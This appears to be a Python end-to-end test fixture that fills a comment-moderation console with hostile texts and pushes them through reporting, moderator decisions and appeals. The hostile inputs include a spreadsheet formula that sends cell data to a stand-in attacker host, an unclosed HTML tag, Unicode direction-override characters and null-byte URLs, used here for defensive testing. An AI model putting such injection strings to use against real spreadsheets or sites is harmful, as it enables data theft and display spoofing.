"""A console full of hostile texts, as the worker and moderators would put them there.

The cases of `hostile.cases` come in tens. Each case is a comment of its own, with the text as its body, its author's
name, and the title, key, work and address of its page; each answers the one before, and all ten are one author's. The
last of ten has been reported with each of the ten as reason and note, has had all of them in an earlier revision, has
a note with all of them, and is decided with all of them as reason, note and message; its author appeals with all of
them. The one before is decided so, too, and the one before that is claimed. Websites hold all ten. Whoever notes,
claims and decides has one of them as a name.
"""

import asyncio
from collections.abc import AsyncGenerator, Iterable, Sequence
from contextlib import asynccontextmanager
from datetime import UTC, datetime
from typing import Any

import httpx2
from msgspec import Struct, field
from msgspec.structs import replace

from services.comments.rendering.normalise import normalise_name
from services.moderation.cases.commands import AddNote, Claim, Command, Decide
from services.moderation.review_queue.asked import Asked
from services.moderation.review_queue.listing import read_queue
from shared.access.roles import Role
from shared.contracts.comments import (
    About,
    Byline,
    CommentAppealed,
    CommentEvent,
    CommentPosted,
    Note,
    Text,
    ThreadOpened,
)
from shared.contracts.ruling import Mask, Ruling
from shared.ids import new_id
from shared.postgres.pool import connect
from tests.e2e.hostile.hostile import Case, cases
from tests.e2e.hostile.world import parts_of
from tests.support.console import Browser, signed_in
from tests.support.database import Database
from tests.support.desk import Served, serving
from tests.support.history_of_work import count
from tests.support.told import edited, opened, posted, reported

SITE, EMPTY = "drama", "quiet"
TEN, _REVISIONS = 10, 3
_TENS_AT_ONCE = 25
_AT_ONCE = 4
_PEOPLE = """
WITH given AS (SELECT * FROM unnest($1::uuid[], $2::text[]) AS g (id, name)), added AS (
    INSERT INTO accounts (account_id, login, name, created_at)
    SELECT id, left(name, 200) || ' ' || id || '@blog.example', name, now() FROM given
)
INSERT INTO memberships (membership_id, account_id, site, role)
SELECT gen_random_uuid(), id, $3, 'moderator' FROM given
"""
SAVE_VIEWS = """
INSERT INTO saved_views (view_id, site, name, query, shared, by, at)
SELECT gen_random_uuid(), $1, left(name, 60), $2, true, 'ada', now() FROM (SELECT DISTINCT unnest($3::text[]) AS name) n
ON CONFLICT DO NOTHING
"""
_OWN = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "<b>x",
    "\u202e\u2066\u200b\u0300" * 9,
    "http://a%00b.example/ http://xn--ib9b.example/",
)
"""What the files lack: a formula, a tag that stays open however it is cut, marks, addresses that no host is at."""


class Ten(Struct, frozen=True, kw_only=True):
    """Ten cases, the comments that say them, and somebody whose name is one of them."""

    cases: Sequence[Case]
    comments: Sequence[CommentPosted]
    person: str

    @property
    def all(self) -> str:
        return "\n".join(case.text for case in self.cases)


class World(Struct, kw_only=True):
    """`ada` owns the site of all that, `eve` one on which nobody has ever written. `marker`: before all that."""

    served: Served
    http: httpx2.AsyncClient
    ada: Browser
    eve: Browser
    cases: list[Case]
    marker: str
    tens: list[Ten] = field(default_factory=list)
    _turn: asyncio.Semaphore = field(default_factory=lambda: asyncio.Semaphore(_AT_ONCE))

    @property
    def url(self) -> str:
        return self.served.url

    async def owner(self, site: str, name: str = "Olga") -> Browser:
        """Somebody new, who owns that site."""
        return await _owner(self.http, self.served, site, name)

    async def pages(self, who: Browser, paths: Iterable[str], **headers: str) -> list[str]:
        """What is answered at each path; all of them are there."""
        answers = await asyncio.gather(
            *(self.ask(who, "GET", path, headers=headers or None) for path in paths)
        )
        assert {answer.status_code: answer.text for answer in answers}.keys() == {200}
        return [answer.text for answer in answers]

    async def ask(self, who: Browser, method: str, path: str, **sent: Any) -> httpx2.Response:
        """An answer that is never a failure. `form`: a POST as its page would send it."""
        form = sent.pop("form", None)
        async with self._turn:
            answer = await (who.send(path, form, **sent) if form else who.ask(method, path, **sent))
        assert answer.status_code < 500, (answer.status_code, method, path, sent, answer.text)
        return answer


@asynccontextmanager
async def hostile_world(database: Database) -> AsyncGenerator[World]:
    """A real process of the console."""
    made = [*(Case(f"own-{number}", text) for number, text in enumerate(_OWN)), *cases()]
    async with (
        serving(database) as served,
        httpx2.AsyncClient(base_url=served.url, timeout=60) as http,
    ):
        marker = (await read_queue(served.mod.pool, Asked())).marker
        ada, eve = await _owner(http, served, SITE, "<b>Ada"), await _owner(http, served, EMPTY, "Eve")
        world = World(served=served, http=http, ada=ada, eve=eve, cases=made, marker=marker)
        await _fill(world, database)
        yield world


async def _owner(http: httpx2.AsyncClient, served: Served, site: str, name: str) -> Browser:
    return await signed_in(
        http, served.database.owner, role=Role.OWNER, site=site, name=name, login=f"{new_id()}@blog.example"
    )


async def _fill(world: World, database: Database) -> None:
    sendable = [case for case in world.cases if not case.refused]
    sendable += sendable[: -len(sendable) % TEN]
    people = {case.id: new_id() for case in sendable}
    async with connect(database.owner, "moderation", name="test") as connection:
        names = {case.id: normalise_name(case.text) or "x" for case in sendable}
        await connection.execute(_PEOPLE, list(people.values()), list(names.values()), SITE)
    for number, some in enumerate(parts_of(sendable, TEN)):
        comments = _discussion(number, some)
        world.tens.append(Ten(cases=some, comments=comments, person=str(people[some[-1].id])))
    for some_tens in parts_of(world.tens, _TENS_AT_ONCE):
        await _tell(world, [event for ten in some_tens for event in _told_of(ten)])
        appeals = await asyncio.gather(*(_act(world, ten) for ten in some_tens))
        await _tell(world, appeals)
    await count(world.served.mod)


async def _tell(world: World, events: Sequence[CommentEvent]) -> None:
    mod = world.served.mod
    await mod.screening.handle(mod.teller.batch(*events))


def _discussion(number: int, some: Sequence[Case]) -> list[CommentPosted]:
    """Comments of one author, each an answer to the one before; ten authors share an address."""
    author_id, website = new_id(), " ".join(case.text for case in some)
    comments: list[CommentPosted] = []
    for at, case in enumerate(some):
        comments.append(
            posted(
                minute=number * TEN + at,
                thread_id=new_id(),
                parent_id=comments[-1].comment_id if comments else None,
                author_id=author_id,
                site=SITE,
                mode="hold",
                sealed=Text(body=case.text, html=""),
                byline=Byline(
                    name=case.text,
                    website=website,
                    email_domain=case.text,
                    address_hash=(number // TEN).to_bytes(16, "big"),
                ),
            )
        )
    return comments


def _told_of(ten: Ten) -> list[CommentEvent]:
    told: list[CommentEvent] = []
    for case, comment in zip(ten.cases, ten.comments, strict=True):
        told += [_page(case, comment), comment]
    last, before = ten.comments[-1], ten.cases[-1].text
    told += [edited(last, ten.all[:10_000]), edited(last, before, revision=_REVISIONS)]
    for number, case in enumerate(ten.cases):
        report = reported(last, f"{number} {case.text[:80]}", note=case.text)
        told.append(replace(report, revision=_REVISIONS, reason=case.text))
    return told


def _page(case: Case, comment: CommentPosted) -> ThreadOpened:
    """Of every second the text is the address itself, of the others a part of one."""
    url = case.text if comment.comment_id.int % 2 else f"https://x.example/?'{case.text}"
    about = About(work=case.text, season=1, episode=2)
    key = f"{case.text[:400]} {comment.comment_id}"
    return opened(thread_id=comment.thread_id, site=SITE, key=key, url=url, title=case.text, about=about)


async def _act(world: World, ten: Ten) -> CommentAppealed:
    """What a moderator does, and what the author has to say to that."""
    now, decision_id = datetime.now(UTC), new_id()
    mask = Mask(label=ten.cases[0].text) if decision_id.int % 2 else None
    said: dict[str, Any] = {"by": ten.person, "at": now}
    decide = Decide(
        decision_id=decision_id,
        revision=_REVISIONS,
        ruling=Ruling(action="mask" if mask else "remove", mask=mask, reason=ten.all),
        note=ten.all,
        message=ten.all,
        **said,
    )
    claimed, earlier, last = ten.comments[-3:]
    acts: Sequence[tuple[CommentPosted, Command]] = (
        (claimed, Claim(**said)),
        (earlier, replace(decide, decision_id=new_id(), revision=1)),
        (last, AddNote(note_id=new_id(), text=ten.all, **said)),
        (last, decide),
    )
    for comment, command in acts:
        await world.served.mod.cases.handle(comment.comment_id, command, site=SITE)
    return CommentAppealed(
        comment_id=last.comment_id, revision=_REVISIONS, decision=decision_id, at=now, sealed=Note(ten.all)
    )
